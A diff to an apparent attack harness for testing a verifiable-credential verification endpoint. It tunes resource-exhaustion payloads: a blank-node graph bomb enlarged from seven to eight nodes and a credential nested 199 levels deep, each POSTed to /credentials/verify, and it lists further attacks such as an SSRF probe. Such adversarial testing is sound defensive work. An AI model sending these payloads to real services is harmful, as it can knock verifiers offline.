@@ -115,7 +115,10 @@ def _unsigned_credential(**extra: Any) -> dict[str, Any]:
 def blank_node_bomb(nodes: int) -> Callable[[Target], str]:
     def run(target: Target) -> str:
         labels = [f"_:b{i}" for i in range(nodes)]
-        evidence = [{"id": label, "type": "LivenessCheckEvidence", "verifier": labels} for label in labels]
+        evidence = [
+            {"id": label, "type": "LivenessCheckEvidence", "verifier": [o for o in labels if o != label]}
+            for label in labels
+        ]
         credential = _unsigned_credential(evidence=evidence)
         return _post(target, "/credentials/verify", json={"verifiableCredential": credential})
 
@@ -123,11 +126,11 @@ def blank_node_bomb(nodes: int) -> Callable[[Target], str]:
 
 
 def nested_subject(target: Target) -> str:
-    inner: dict[str, Any] = {"deviceType": "mobile"}
-    for _ in range(200):
-        inner = {"type": "LivenessCheckEvidence", "verifier": [inner]}
     credential = _unsigned_credential()
-    credential["credentialSubject"]["evidence"] = [inner]
+    node = credential["credentialSubject"]
+    for _ in range(199):
+        node = {"type": "VerifiableCredential", "credentialSubject": node}
+    credential["credentialSubject"] = node
     return _post(target, "/credentials/verify", json={"verifiableCredential": credential})
 
 
@@ -321,7 +324,7 @@ def nonce_flood(target: Target) -> str:
 
 ATTACKS: list[Attack] = [
     Attack("deep_json", deep_json),
-    Attack("blank_node_bomb_7", blank_node_bomb(7)),
+    Attack("blank_node_bomb_8", blank_node_bomb(8)),
     Attack("nested_subject_200", nested_subject),
     Attack("fhe_galois_bomb", fhe_galois_bomb),
     Attack("ssrf_probe", ssrf_probe),
